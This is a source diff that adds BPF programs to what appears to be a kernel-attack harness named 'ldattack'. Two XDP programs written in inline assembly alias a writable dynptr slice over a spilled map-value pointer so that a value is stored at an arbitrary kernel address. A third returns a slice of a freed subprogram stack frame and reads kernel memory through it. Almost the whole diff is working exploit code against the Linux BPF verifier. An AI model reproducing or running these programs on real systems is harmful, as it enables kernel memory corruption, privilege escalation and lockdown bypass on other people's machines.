@@ -8,6 +8,14 @@
  *   fmod_ret_high  fmod_ret on security_locked_down() returning 1 << 32:
  *             non-zero to the trampoline, which skips the function, and 0
  *             to every caller, which reads the low 32 bits (bpf-fmod-ret)
+ *   slice_alias  an XDP program's writable dynptr slice of a stack buffer
+ *             rewrites a map value pointer it spilled there: a store to
+ *             any kernel address (bpf-dynptr-slice, 6.4 on)
+ *   slice_twice  the same through a slice handed that slice as its buffer
+ *             (bpf-dynptr-slice twice)
+ *   slice_frame  a read-only slice of a subprogram's stack buffer,
+ *             returned, read after the frame is gone (bpf-dynptr-slice
+ *             frame)
  * Kernel types are declared with what the programs touch, relocated
  * against the kernel's BTF (CO-RE); no BPF_CORE_READ(), which would be a
  * bpf_probe_read_kernel() and ask its reason.
@@ -47,6 +55,12 @@ struct bpf_iter__task {
 } CORE;
 
 extern void *bpf_rdonly_cast(const void *obj, __u32 btf_id) __ksym __weak;
+extern int bpf_dynptr_from_xdp(struct xdp_md *xdp, __u64 flags,
+			       struct bpf_dynptr *ptr__uninit) __ksym __weak;
+extern void *bpf_dynptr_slice(const struct bpf_dynptr *ptr, __u32 offset,
+			      void *buffer__opt, __u32 buffer__szk) __ksym __weak;
+extern void *bpf_dynptr_slice_rdwr(const struct bpf_dynptr *ptr, __u32 offset,
+				   void *buffer__opt, __u32 buffer__szk) __ksym __weak;
 
 /* set by ldattack before load (.rodata): linux_banner */
 const volatile __u64 target_addr;
@@ -92,4 +106,161 @@ SEC("fmod_ret/security_locked_down")
 long long fmod_ret_high(unsigned long long *ctx)
 {
 	return 1ULL << 32;
+}
+
+/*
+ * The packet ldattack runs the slice programs on: its linear part ends
+ * at SLICE_LINEAR, so a slice across it is copied into the buffer, which
+ * bpf_dynptr_slice(_rdwr)() returns.
+ */
+#define SLICE_LINEAR 100
+
+/* slice_alias: what to store, and where (.bss, set by ldattack each run) */
+__u64 poke_addr;
+__u64 poke_val;
+
+struct {
+	__uint(type, BPF_MAP_TYPE_ARRAY);
+	__uint(max_entries, 1);
+	__type(key, __u32);
+	__type(value, __u64);
+} slice_value SEC(".maps");
+
+/*
+ * The slice programs' first half: the map value in r7, the 8-byte buffer
+ * at fp-16 zeroed, the dynptr at fp-40, and a writable slice of the
+ * buffer across the linear part's end in r0 (to 1: if it fails).
+ */
+#define SLICE_SETUP				\
+	"r6 = r1;"				\
+	"r1 = 0;"				\
+	"*(u32 *)(r10 - 4) = r1;"		\
+	"r1 = %[value] ll;"			\
+	"r2 = r10;"				\
+	"r2 += -4;"				\
+	"call %[lookup];"			\
+	"if r0 == 0 goto 1f;"			\
+	"r7 = r0;"				\
+	"r1 = 0;"				\
+	"*(u64 *)(r10 - 16) = r1;"		\
+	"r1 = r6;"				\
+	"r2 = 0;"				\
+	"r3 = r10;"				\
+	"r3 += -40;"				\
+	"call %[from_xdp];"			\
+	"r1 = r10;"				\
+	"r1 += -40;"				\
+	"r2 = %[off];"				\
+	"r3 = r10;"				\
+	"r3 += -16;"				\
+	"r4 = 8;"				\
+	"call %[slice_rdwr];"			\
+	"if r0 == 0 goto 1f;"
+
+/*
+ * Their second half, the slice in r8: the map value pointer spilled over
+ * the buffer, poke_addr written through the slice, the slot filled
+ * back, and poke_val stored through what the verifier takes for the map
+ * value pointer it spilled.
+ */
+#define SLICE_STORE				\
+	"r8 = r0;"				\
+	"*(u64 *)(r10 - 16) = r7;"		\
+	"r1 = %[addr] ll;"			\
+	"r1 = *(u64 *)(r1 + 0);"		\
+	"*(u64 *)(r8 + 0) = r1;"		\
+	"r7 = *(u64 *)(r10 - 16);"		\
+	"r1 = %[val] ll;"			\
+	"r1 = *(u64 *)(r1 + 0);"		\
+	"*(u64 *)(r7 + 0) = r1;"		\
+	"1: r0 = %[pass];"			\
+	"exit;"
+
+#define SLICE_ARGS \
+	[value]"i"(&slice_value), [lookup]"i"(BPF_FUNC_map_lookup_elem), \
+	[from_xdp]"i"(bpf_dynptr_from_xdp), [slice_rdwr]"i"(bpf_dynptr_slice_rdwr), \
+	[off]"i"(SLICE_LINEAR - 4), [addr]"i"(&poke_addr), [val]"i"(&poke_val), [pass]"i"(XDP_PASS)
+
+/* the slice of the buffer itself */
+SEC("xdp.frags")
+__attribute__((naked)) int slice_alias(void)
+{
+	asm volatile (SLICE_SETUP SLICE_STORE
+		      :: SLICE_ARGS
+		      : "r0", "r1", "r2", "r3", "r4", "r5", "r6", "r7", "r8", "memory");
+}
+
+/*
+ * A second writable slice handed the first as its buffer (a red team's):
+ * where the data is not contiguous, the second is the first, which is
+ * the stack buffer.
+ */
+SEC("xdp.frags")
+__attribute__((naked)) int slice_twice(void)
+{
+	asm volatile (SLICE_SETUP
+		      "r1 = r10;"
+		      "r1 += -40;"
+		      "r2 = %[off];"
+		      "r3 = r0;"
+		      "r4 = 8;"
+		      "call %[slice_rdwr];"
+		      "if r0 == 0 goto 1f;"
+		      SLICE_STORE
+		      :: SLICE_ARGS
+		      : "r0", "r1", "r2", "r3", "r4", "r5", "r6", "r7", "r8", "memory");
+}
+
+/*
+ * Never loaded: a call from C, so that the compiler puts the kfunc
+ * slice_alias calls from assembly in the object's BTF, where libbpf
+ * finds it (clang 14 does not for a call from asm alone).
+ */
+SEC("?xdp.frags")
+int slice_rdwr_btf(struct xdp_md *xdp)
+{
+	struct bpf_dynptr d;
+
+	bpf_dynptr_from_xdp(xdp, 0, &d);
+	return bpf_dynptr_slice_rdwr(&d, 0, NULL, 0) ? XDP_DROP : XDP_PASS;
+}
+
+#define FRAME_WORDS 32
+
+/* slice_frame: what it read of the frame gone (.bss) */
+__u64 frame_words[FRAME_WORDS];
+
+struct {
+	__uint(type, BPF_MAP_TYPE_HASH);
+	__uint(max_entries, 8);
+	__type(key, __u32);
+	__type(value, __u64);
+} frame_churn SEC(".maps");
+
+/* a slice of this subprogram's own buffer, across the linear part's end */
+static __attribute__((noinline)) const __u64 *slice_of_frame(struct xdp_md *xdp)
+{
+	struct bpf_dynptr d;
+	__u64 buf[FRAME_WORDS];
+
+	__builtin_memset(buf, 0, sizeof(buf));
+	if (bpf_dynptr_from_xdp(xdp, 0, &d))
+		return 0;
+	return bpf_dynptr_slice(&d, SLICE_LINEAR - 4, buf, sizeof(buf));
+}
+
+SEC("xdp.frags")
+int slice_frame(struct xdp_md *xdp)
+{
+	const __u64 *p = slice_of_frame(xdp);
+	__u32 k = 0;
+	__u64 v = 1;
+
+	if (!p)
+		return XDP_PASS;
+	/* the kernel's calls, over the frame gone */
+	bpf_map_update_elem(&frame_churn, &k, &v, BPF_ANY);
+	for (int i = 0; i < FRAME_WORDS; i++)
+		frame_words[i] = p[i];
+	return XDP_PASS;
 }
